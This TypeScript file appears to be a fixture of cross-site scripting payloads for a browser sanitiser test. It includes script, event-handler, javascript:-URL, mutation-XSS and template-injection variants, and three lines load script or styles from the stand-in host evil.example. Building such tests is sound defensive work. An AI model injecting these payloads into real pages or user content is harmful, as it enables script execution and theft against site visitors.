/**
 * Classic cross-site scripting payloads, each trying a different way to run code (or to hide
 * text) from content. Every one that could run calls `alert`, so a browser test can listen
 * for the dialog.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '"><script>alert(2)</script>',
  '<img src=x onerror=alert(3)>',
  '<svg onload=alert(4)>',
  '<svg><script>alert(5)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(6)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(7)>">',
  '<a href="javascript:alert(8)">javascript link</a>',
  '<a href="JaVaScRiPt:alert(9)">mixed-case link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(10)">entity-encoded link</a>',
  '<a href="jav&#x09;ascript:alert(11)">tab-split link</a>',
  '<a href="  javascript:alert(12)">spaced link</a>',
  '[markdown link](javascript:alert(13))',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=">data link</a>',
  '<a href="vbscript:msgbox(15)">vbscript link</a>',
  '<a href="#" onclick="alert(16)">handler link</a>',
  '<iframe src="javascript:alert(17)"></iframe>',
  '<iframe srcdoc="<script>alert(18)</script>"></iframe>',
  '<form action="javascript:alert(19)"><button>form button</button></form>',
  '<div style="background:url(javascript:alert(20))">styled div</div>',
  '<p style="width:expression(alert(21))">expression paragraph</p>',
  '<style>body{display:none}</style>',
  '<span style="display:none">text hidden by style</span>',
  '<span hidden>text hidden by attribute</span>',
  '<details><summary>folded</summary>text hidden in details</details>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(27)">',
  '<base href="https://evil.example/">',
  '<object data="javascript:alert(29)"></object>',
  '<embed src="javascript:alert(30)">',
  '<body onload=alert(31)>',
  '<input autofocus onfocus=alert(32)>',
  '<details open ontoggle=alert(33)>toggle</details>',
  '<xss onpointerenter=alert(34) style=display:block>custom element</xss>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<a href="/" accesskey="s" tabindex="1" aria-label="something else">keyboard hijack</a>',
  "{{constructor.constructor('alert(37)')()}}",
];

/** Text that is harmless and must survive as text, proving the content was rendered, not dropped. */
export const TEMPLATE_INJECTION = "{{constructor.constructor('alert(37)')()}}";
